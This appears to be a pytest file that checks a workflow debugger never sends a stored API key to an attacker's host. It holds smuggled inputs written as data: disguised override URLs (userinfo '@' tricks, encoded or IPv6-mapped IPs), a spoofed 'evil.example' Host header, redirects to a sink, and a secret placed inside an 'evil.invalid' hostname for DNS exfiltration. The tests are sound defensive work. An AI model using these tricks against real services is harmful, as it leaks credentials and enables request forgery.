"""Attacks that send a secret to a host of the attacker."""

from __future__ import annotations

from typing import Any

import pytest

from tests.safety.secret_trails import PLANTED, SECRET, execute
from tests.safety.sink import Sink
from tests.support.factories import Json, direct, document, node
from tests.support.http_server import HttpServer
from tests.support.super_nodes import super_node

KEY: Json = {"X-Shop": "{{SHOP_KEY}}"}
HOSTS_SETTING = "WORKFLOW_DEBUGGER_SECRET_HOSTS_SHOP_KEY"


@pytest.fixture
def good():
    """The server that the author chose."""
    with HttpServer() as server:
        yield server


@pytest.fixture
def sink():
    with Sink() as listener:
        yield listener


def overriding(url: str) -> Json:
    """A turn's input that replaces the URL of the node ``n``."""
    supplied_fields = {"node_logical_id": "n", "type": "http_request", "override_url": url}
    return {"thread_to_node_inputs": {"0": {"node_run_inputs": [supplied_fields]}}}


def request(url: str, **fields: Any) -> Json:
    return node("n", "http_request", url=url, **{"headers": KEY, **fields})


def is_refused(trail: Any, sink: Sink, host: str = "") -> bool:
    """Return whether the call failed by rule, unsent and unresolved."""
    entry = trail.ledger[-1]
    named = f"the secret 'SHOP_KEY' must not be sent to {host or f'http://{sink.netloc}'}"
    assert named in trail.error
    assert (entry["how"], entry["success"]) == ("blocked", False)
    assert named in str(entry["error"])
    assert trail.hosts == set()
    assert sink.connections == []
    assert trail.leaks() == []
    return named in trail.text


@pytest.mark.parametrize(
    "fields",
    [
        {},
        {"headers": None, "query_parameters": '{"k": "{{SHOP_KEY}}"}'},
        {"headers": None, "method": "POST", "body_parameters": {"k": ["{{SHOP_KEY}}"]}},
        {
            "headers": None,
            "method": "PUT",
            "body_content_type": "text/plain",
            "body_parameters": "{{SHOP_KEY}}",
        },
        {"headers": {"Authorization": "Basic {{ SHOP_KEY | base64_encode }}"}},
    ],
    ids=["header", "query", "body", "text", "filter"],
)
def test_override_url_gets_no_secret(tmp_path, monkeypatch, caplog, good, sink, fields):
    flow = document(request(f"{good.url}/pay", **fields))

    trail = execute(tmp_path, monkeypatch, flow, overriding(f"http://{sink.netloc}/pay"), log=caplog)

    assert is_refused(trail, sink)
    assert good.received == []


@pytest.mark.parametrize(
    ("disguise", "host"),
    [
        ("http://{good}@{sink}/", ""),
        (r"http://{good}\@{sink}/", ""),
        ("http://{good}#@{sink}/", "http://"),
        ("http://127\u30020\u30020\u30022:{port}/", ""),
        ("http://2130706434:{port}/", "http://2130706434:"),
        ("http://[::ffff:127.0.0.2]:{port}/", "http://[::ffff:127.0.0.2]:"),
        ("HTTP://{sink}/", ""),
        ("http://127.0.0.1:{port}/", "http://127.0.0.1:"),
        ("https://{good}/", "https://127.0.0.1:"),
        ("http://localhost:{good_port}/", "http://localhost:"),
    ],
)
def test_override_url_in_disguise_gets_no_secret(tmp_path, monkeypatch, good, sink, disguise, host):
    parts = {"good": good.url.removeprefix("http://"), "sink": sink.netloc, "port": sink.port}
    url = disguise.format(**parts, good_port=good.server_port)

    trail = execute(tmp_path, monkeypatch, document(request(f"{good.url}/pay")), overriding(url))

    if "#" in disguise:  # it leads to the author's own server
        assert [one.path for one in good.received] == ["/"]
        assert trail.error == ""
    else:
        assert is_refused(trail, sink, host)
        assert good.received == []


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1\t@{sink}/",
        "http:\\\\{sink}/",
        "//{sink}/",
        "http:///{sink}/",
        "http://127.0.0.1:80%40{sink}/",
        "http://127%2E0%2E0%2E2/",
    ],
)
def test_malformed_override_url_is_not_called(tmp_path, monkeypatch, good, sink, url):
    flow = document(request(f"{good.url}/pay"))

    trail = execute(tmp_path, monkeypatch, flow, overriding(url.format(sink=sink.netloc)))

    assert "cannot be called" in trail.text
    assert (good.received, sink.connections, trail.hosts, trail.leaks()) == ([], [], set(), [])


@pytest.mark.parametrize(
    ("url", "default", "supplied"),
    [
        ("http://{{host}}/pay", "{good}", "{sink}"),
        ("{{base}}/pay", "http://{good}", "http://{sink}"),
        ("http://{good}{{path}}", "/pay", "@{sink}/"),
        ("http://{{user}}@{good}/", "ann", "{sink}/"),
        ("http://[[target]]/pay", None, "{sink}"),
        ("http://{{global.host}}/pay", "{good}", "{sink}"),
        ("http://{{ host | strip }}/pay", "{good}", " {sink} "),
    ],
)
def test_supplied_variable_moves_no_secret(tmp_path, monkeypatch, good, sink, url, default, supplied):
    parts = {"good": good.url.removeprefix("http://"), "sink": sink.netloc}
    names = ("host", "base", "path", "user", "target")
    url = url.replace("{good}", parts["good"])
    defaults = {name: default.format(**parts) for name in names} if default else {}
    flow = document(request(url), defaults=defaults)
    values = {name: supplied.format(**parts) for name in names}
    supplied_fields = {"dynamic_variables": values, "runtime_variables": values}

    trail = execute(tmp_path, monkeypatch, flow, supplied_fields)

    assert is_refused(trail, sink)
    assert good.received == []


def test_host_header_of_caller_gets_no_secret(tmp_path, monkeypatch, good, sink):
    """Keep a proxy from passing the request to the header's host."""
    flow = document(
        request(good.url, headers={**KEY, "host": "{{tenant}}"}), defaults={"tenant": "shop.example"}
    )

    trail = execute(tmp_path, monkeypatch, flow, {"dynamic_variables": {"tenant": "evil.example"}})

    assert is_refused(trail, sink, f"{good.url} (as evil.example)")
    assert good.received == []


def test_variable_of_a_tool_moves_no_secret(tmp_path, monkeypatch, sink):
    """Ignore an API's answer about the address of the next call."""
    with HttpServer(where=lambda to: to.send_json({"host": sink.netloc})) as api:
        ask = node("ask", "http_request", url=f"{api.url}/where")
        flow = document(ask, request("http://[[http_request_result.host]]/"), direct("ask", "n"))

        trail = execute(tmp_path, monkeypatch, flow)

    assert f"must not be sent to http://{sink.netloc}" in trail.error
    assert (trail.hosts, sink.connections, trail.leaks()) == ({"127.0.0.1"}, [], [])


@pytest.mark.parametrize("integration", [False, True])
@pytest.mark.parametrize("endpoint", ["http://{{{{host}}}}/x", "http://{{host}}/x", "http://{good}{{path}}"])
def test_argument_of_a_tool_moves_no_secret(tmp_path, monkeypatch, good, sink, endpoint, integration):
    netloc = good.url.removeprefix("http://")
    auth = {"integration_auth": {"integration_id": "SHOP_KEY"}} if integration else {"api_headers": KEY}
    api = {"type": "external_api", "name": "shop", "api_endpoint": endpoint.format(good=netloc), **auth}
    call = node("n", "tool_node", tool_config=api, tool_arguments={"host": "{{host}}", "path": "{{path}}"})
    flow = document(call, defaults={"host": netloc, "path": "/x"})
    environment = {"WORKFLOW_DEBUGGER_SECRET_SHOP_KEY": "Bearer planted-77"}

    supplied_fields = {"dynamic_variables": {"host": sink.netloc, "path": f"@{sink.netloc}/"}}
    trail = execute(tmp_path, monkeypatch, flow, supplied_fields, environment)

    assert is_refused(trail, sink)
    assert good.received == []


@pytest.mark.parametrize("status", [302, 307])
@pytest.mark.parametrize("method", ["GET", "POST"])
def test_redirect_takes_no_secret_along(tmp_path, monkeypatch, sink, method, status):
    def away(to: Any) -> None:
        to.redirect(f"http://{sink.netloc}/in?k=1", status)

    in_body = {"headers": None, "body_parameters": {"k": "{{SHOP_KEY}}"}}
    fields = {"method": method, **(in_body if method == "POST" else {})}
    with HttpServer(away=away) as good:
        trail = execute(tmp_path, monkeypatch, document(request(f"{good.url}/away", **fields)))

    assert f"the secret 'SHOP_KEY' must not be sent to http://{sink.netloc}" in trail.error
    assert "a redirect of" in trail.error
    assert (trail.hosts, sink.connections, trail.leaks()) == ({"127.0.0.1"}, [], [])


@pytest.mark.parametrize("prefix", ["", "api-"], ids=["whole label", "part of a label"])
def test_host_with_secret_is_not_looked_up(tmp_path, monkeypatch, caplog, prefix):
    flow = document(request(f"http://{prefix}{{{{SHOP_KEY}}}}.evil.invalid/", headers=None))
    environment = {"WORKFLOW_DEBUGGER_SECRET_SHOP_KEY": "pl\u00e4nted-S3cret-77"}

    trail = execute(tmp_path, monkeypatch, flow, environment=environment, log=caplog)

    assert f"the secret 'SHOP_KEY' must not be sent to http://{prefix}***.evil.invalid" in trail.error
    assert trail.hosts == set()
    assert "nted-s3cret" not in trail.text.lower()
    assert trail.leaks("pl\u00e4nted-S3cret-77") == []


# Where a secret may go


@pytest.mark.parametrize("supplied", [None, "{good}"])
def test_default_of_the_workflow_is_its_authors(tmp_path, monkeypatch, good, supplied):
    netloc = good.url.removeprefix("http://")
    flow = document(request("http://{{host}}/pay"), defaults={"host": netloc})
    supplied_fields = {"dynamic_variables": {"host": netloc}} if supplied else {}

    trail = execute(tmp_path, monkeypatch, flow, supplied_fields)

    assert [one.headers["x-shop"].encode("latin-1").decode() for one in good.received] == [SECRET]
    assert (trail.error, trail.leaks()) == ("", [])


def test_override_url_of_same_host_gets_secret(tmp_path, monkeypatch, good):
    trail = execute(
        tmp_path, monkeypatch, document(request(f"{good.url}/pay")), overriding(f"{good.url}/other")
    )

    assert [one.path for one in good.received] == ["/other"]
    assert trail.error == ""


def test_argument_of_author_gets_the_secret(tmp_path, monkeypatch, good):
    api = {
        "type": "external_api",
        "name": "shop",
        "api_endpoint": "http://{host}/{id}/[[n]]",
        "api_headers": KEY,
    }
    arguments = {"host": good.url.removeprefix("http://"), "id": "{{id}}"}
    flow = document(node("n", "tool_node", tool_config={**api, "api_headers": KEY}, tool_arguments=arguments))
    supplied_fields = {"dynamic_variables": {"id": "7"}, "runtime_variables": {"n": "8"}}

    execute(tmp_path, monkeypatch, flow, supplied_fields)

    assert [one.path for one in good.received] == ["/7/8"]


def test_own_list_of_hosts_allows_the_override(tmp_path, monkeypatch, good, sink):
    environment = {**PLANTED, HOSTS_SETTING: f"api.example, http://{sink.netloc}"}
    flow = document(request(f"{good.url}/pay"))

    trail = execute(tmp_path, monkeypatch, flow, overriding(f"http://{sink.netloc}/pay"), environment)

    assert SECRET.encode() in sink.connections[0]
    assert (trail.error, trail.leaks()) == ("", [])


def test_unlisted_secret_withholds_the_others(tmp_path, monkeypatch, good, sink):
    environment = {
        **PLANTED,
        "WORKFLOW_DEBUGGER_SECRET_OPEN": "planted-open-77",
        "WORKFLOW_DEBUGGER_SECRET_HOSTS_OPEN": f"http://{sink.netloc}",
    }
    flow = document(request(f"{good.url}/pay", headers={**KEY, "X-Open": "{{OPEN}}"}))

    trail = execute(tmp_path, monkeypatch, flow, overriding(f"http://{sink.netloc}/pay"), environment)

    assert is_refused(trail, sink)
    assert trail.leaks("planted-open-77") == []


def test_request_without_a_secret_goes_anywhere(tmp_path, monkeypatch, good, sink):
    flow = document(request(f"{good.url}/pay", headers={"X-Trace": "7"}))

    trail = execute(tmp_path, monkeypatch, flow, overriding(f"http://{sink.netloc}/pay"))

    assert len(sink.connections) == 1
    assert trail.error == ""


# Super nodes


def nested(url: str, inner: Json, fields: list[Json], **outer: Any) -> Json:
    """Return a request in a workflow inside a super node."""
    inside = document(request(url), defaults=inner)
    interface = {"input_fields": fields}
    values = outer.pop("values", {})
    return document(super_node("s", inside, super_node_interface=interface, field_values=values), **outer)


def field_to(target_type: str, **target: str) -> Json:
    mapping = {"target_type": target_type, **target}
    return {"name": "host", "value_type": "string", "required": False, "mappings": [mapping]}


TO_VARIABLE = field_to("dynamic_variable", target_variable_name="host")
TO_URL = field_to("node_config_field", target_node_or_edge_logical_id="n", target_field_path="url")
OUTER = {"defaults": {"outer": "GOOD"}}
SUPER_NODES = [
    ("http://{{host}}/", {"host": "GOOD"}, [], {}),
    ("http://{{host}}/", {"host": "other.example"}, [TO_VARIABLE], {"values": {"host": "GOOD"}}),
    ("http://{{host}}/", {}, [TO_VARIABLE], {"values": {"host": "{{outer}}"}, **OUTER}),
    (
        "http://old.example/",
        {},
        [TO_URL],
        {"values": {"host": "http://{{outer}}/"}, "defaults": {"outer": "GOOD"}},
    ),
]


def filled(value: Any, netloc: str) -> Any:
    if isinstance(value, dict):
        return {key: filled(inner, netloc) for key, inner in value.items()}
    return value.replace("GOOD", netloc) if isinstance(value, str) else value


@pytest.mark.parametrize(("url", "inner", "fields", "outer"), SUPER_NODES)
@pytest.mark.parametrize("overridden", [False, True])
def test_super_node_counts_as_its_authors(
    tmp_path, monkeypatch, good, sink, url, inner, fields, outer, overridden
):
    netloc = good.url.removeprefix("http://")
    flow = nested(url, filled(inner, netloc), fields, **filled(outer, netloc))
    supplied_fields = {"dynamic_variables": {"host": sink.netloc, "outer": sink.netloc}} if overridden else {}

    trail = execute(tmp_path, monkeypatch, flow, supplied_fields)

    if overridden:
        assert is_refused(trail, sink)
    assert [one.headers["x-shop"].encode("latin-1").decode() for one in good.received] == (
        [] if overridden else [SECRET]
    )
